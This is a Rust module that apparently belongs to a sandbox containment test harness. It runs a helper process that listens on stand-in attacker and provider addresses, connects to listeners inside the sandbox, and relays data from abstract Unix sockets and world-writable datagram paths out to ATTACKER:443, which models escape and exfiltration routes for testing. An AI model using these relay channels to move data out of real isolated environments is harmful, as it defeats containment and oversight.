//! Who else is in a scratch world: sinks that take what arrives outside, someone who fetches, and
//! a process beside the roles that passes on what it is told.
//!
//! One forked process with threads; nothing holds it, and it ends with its world.

use std::fs;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{self as unix, UnixDatagram, UnixListener};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use nix::sys::wait::waitpid;
use nix::unistd::{Pid, getpid};

use super::ground::{ATTACKER, ATTACKER_V6, INSIDE, NAMESERVER, PROVIDER, PROVIDER_V6};
use super::relay::Relay;
use super::technique::{
    Aid, Aim, Given, MEETING_PORT, Medium, inet, open_listener, relay_name, relay_path,
};
use super::world::{Namespace, World};
use crate::sys::channel::Channel;
use crate::sys::clone::{Clone, Network, into_cgroup};
use crate::sys::{attempt, fds, privilege};

/// The process; ended when dropped.
pub(super) struct Neighbours {
    pid: Pid,
    orders: Channel,
}

impl Neighbours {
    /// Starts it, and waits until every sink listens.
    pub(super) fn start(world: &World) -> io::Result<Self> {
        let parent = getpid();
        let (ours, theirs) = Channel::pair()?;
        match into_cgroup(None::<&fs::File>, Network::Inherit)? {
            Clone::Parent { pid, .. } => {
                drop(theirs);
                let neighbours = Self { pid, orders: ours };
                neighbours.answered()?;
                Ok(neighbours)
            }
            Clone::Child => {
                drop(ours);
                let lived = live(world, &theirs, parent);
                std::process::exit(i32::from(lived.is_err()));
            }
        }
    }

    /// Has them do what an attempt needs, until it needs it no more.
    pub(super) fn aid(&self, aid: Aid, aim: &Aim) -> io::Result<()> {
        let order = match aid {
            Aid::Fetch | Aid::Given(Given::Listener) => "fetch -".to_owned(),
            Aid::Meet => "meet -".to_owned(),
            Aid::None | Aid::Given(_) => return Ok(()),
            Aid::Relay => format!("relay {}", aim.token),
            Aid::Heard(medium) => {
                format!("heard {medium:?} {} {}", aim.token, aim.scratch.display())
            }
            Aid::PathRelay => format!("path {}", relay_path(&aim.scratch, &aim.token).display()),
        };
        self.orders.send(order.as_bytes(), None)?;
        self.answered()
    }

    /// The attempt is over: nobody needs to wait for it any more.
    pub(super) fn rest(&self) -> io::Result<()> {
        self.orders.send(b"rest -", None)?;
        self.answered()
    }

    fn answered(&self) -> io::Result<()> {
        let mut answer = [0; 256];
        match self.orders.receive(&mut answer)? {
            (0, _) => Err(io::Error::other("the neighbours' process has ended")),
            (length, _) if answer[..length] == *READY => Ok(()),
            (length, _) => Err(io::Error::other(String::from_utf8_lossy(&answer[..length]))),
        }
    }
}

impl Drop for Neighbours {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(self.pid, nix::sys::signal::Signal::SIGKILL);
        let _ = waitpid(self.pid, None);
    }
}

fn live(world: &World, orders: &Channel, parent: Pid) -> io::Result<()> {
    privilege::die_with(parent)?;
    privilege::set_process_name("prxy-neighbours")?;
    let spaces = [world.inside.by_fd(), world.outside.by_fd()];
    fds::close_all_but(&[orders.as_fd(), spaces[0], spaces[1]])?;
    let inside = Arc::new(Namespace::again(spaces[0])?);
    let outside = Arc::new(Namespace::again(spaces[1])?);
    outside.enter()?;
    for (ip, port) in SINKS {
        sink(SocketAddr::new(*ip, *port))?;
    }
    orders.send(READY, None)?;
    let mut buffer = [0; 512];
    loop {
        let (length, _) = orders.receive(&mut buffer)?;
        let text = String::from_utf8_lossy(&buffer[..length]).into_owned();
        // Whoever still waits for an earlier attempt stops.
        let turn = TURN.fetch_add(1, Ordering::Relaxed) + 1;
        let done = match text.split_once(' ') {
            Some(("rest", _)) => Ok(()),
            Some(("fetch", _)) => fetch(turn, inside.clone(), outside.clone()),
            Some(("meet", _)) => in_thread(outside.clone(), move || meet(turn)),
            Some(("relay", token)) => relay(&inside, &outside, token),
            Some(("heard", how)) => hear(turn, &inside, &outside, how),
            Some(("path", path)) => path_relay(inside.clone(), path.into()),
            _ => return Ok(()),
        };
        match done {
            Ok(()) => orders.send(READY, None)?,
            Err(error) => orders.send(format!("{text}: {error}").as_bytes(), None)?,
        }
    }
}

/// Accepts and reads to the end, for ever.
#[expect(clippy::disallowed_methods, reason = "the other side of the wire listens")]
fn sink(at: SocketAddr) -> io::Result<()> {
    let listener = TcpListener::bind(at)?;
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            thread::spawn(move || {
                drop(stream.set_read_timeout(Some(PATIENCE)));
                drop(io::copy(&mut &stream, &mut io::sink()));
            });
        }
    });
    Ok(())
}

/// Connects to what listens inside as soon as something does, and reads.
fn fetch(turn: u64, inside: Arc<Namespace>, outside: Arc<Namespace>) -> io::Result<()> {
    in_thread(inside, move || {
        while TURN.load(Ordering::Relaxed) == turn {
            let table = fs::read_to_string("/proc/thread-self/net/tcp").unwrap_or_default();
            let Some(port) = open_listener(&table) else {
                thread::sleep(Duration::from_millis(5));
                continue;
            };
            let stream = outside.within(|| Ok(dial(INSIDE, port)));
            if let Ok(Some(mut stream)) = stream {
                drop(stream.set_read_timeout(Some(PATIENCE)));
                drop(stream.read(&mut [0; 64]));
                return;
            }
        }
    })
}

/// Connects from the meeting port to the meeting port, until someone inside does the same.
fn meet(turn: u64) {
    while TURN.load(Ordering::Relaxed) == turn {
        let met = || -> io::Result<()> {
            let fd = attempt::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            let reuse = 1_i32.to_ne_bytes();
            attempt::setsockopt(&fd, libc::SOL_SOCKET, libc::SO_REUSEADDR, &reuse)?;
            attempt::bind(&fd, &inet(ATTACKER, MEETING_PORT))?;
            attempt::connect(&fd, &inet(INSIDE, MEETING_PORT))?;
            attempt::poll(&fd, libc::POLLIN, 1000).map(drop)
        };
        if met().is_ok() {
            return;
        }
        thread::sleep(Duration::from_millis(2));
    }
}

/// Passes on what is said on an abstract socket inside.
fn relay(inside: &Arc<Namespace>, outside: &Namespace, token: &str) -> io::Result<()> {
    let address = unix::SocketAddr::from_abstract_name(relay_name(token))?;
    inside.enter()?;
    let listener = UnixListener::bind_addr(&address);
    outside.enter()?;
    let listener = listener?;
    in_thread(inside.clone(), move || {
        let Ok((mut from, _)) = listener.accept() else { return };
        let mut buffer = [0; 256];
        if let Ok(length @ 1..) = from.read(&mut buffer) {
            pass_on(&buffer[..length]);
        }
        drop(from.shutdown(Shutdown::Both));
    })
}

/// Passes on a datagram sent to a path that everyone may write to.
fn path_relay(inside: Arc<Namespace>, path: PathBuf) -> io::Result<()> {
    let listener = UnixDatagram::bind(&path)?;
    fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o666))?;
    listener.set_read_timeout(Some(PATIENCE))?;
    in_thread(inside, move || {
        let mut buffer = [0; 256];
        if let Ok(length @ 1..) = listener.recv(&mut buffer) {
            pass_on(&buffer[..length]);
        }
        drop(fs::remove_file(&path));
    })
}

/// Passes on what is said by any other medium inside.
fn hear(turn: u64, inside: &Arc<Namespace>, outside: &Namespace, how: &str) -> io::Result<()> {
    let mut words = how.splitn(3, ' ');
    let mut word = || words.next().ok_or(io::ErrorKind::InvalidInput);
    let (medium, token, scratch) = (word()?, word()?, word()?);
    let medium = Medium::ALL.iter().find(|known| format!("{known:?}") == medium);
    let medium = *medium.ok_or(io::ErrorKind::InvalidInput)?;
    inside.enter()?;
    let relay = Relay::open(medium, scratch.as_ref(), token);
    outside.enter()?;
    let mut relay = relay?;
    in_thread(inside.clone(), move || {
        if let Ok(bytes) = relay.hear(|| TURN.load(Ordering::Relaxed) != turn) {
            pass_on(&bytes);
        }
    })
}

fn pass_on(bytes: &[u8]) {
    if let Some(mut to) = dial(ATTACKER, 443) {
        drop(to.write_all(bytes));
    }
}

#[expect(clippy::disallowed_methods, reason = "a neighbour is held by nothing")]
fn dial(ip: IpAddr, port: u16) -> Option<TcpStream> {
    TcpStream::connect_timeout(&SocketAddr::new(ip, port), Duration::from_millis(200)).ok()
}

fn in_thread(namespace: Arc<Namespace>, work: impl FnOnce() + Send + 'static) -> io::Result<()> {
    let started = thread::Builder::new().spawn(move || {
        if namespace.enter().is_ok() {
            work();
        }
    });
    started.map(drop)
}

const READY: &[u8] = b"ready";

/// Where something listens outside.
const SINKS: &[(IpAddr, u16)] = &[
    (ATTACKER, 443),
    (ATTACKER, 80),
    (ATTACKER, 53),
    (ATTACKER_V6, 443),
    (PROVIDER, 443),
    (PROVIDER, 8443),
    (PROVIDER_V6, 443),
    (NAMESERVER, 53),
];

/// Counts orders.
static TURN: AtomicU64 = AtomicU64::new(0);

/// Longer than any attempt.
const PATIENCE: Duration = Duration::from_secs(3);
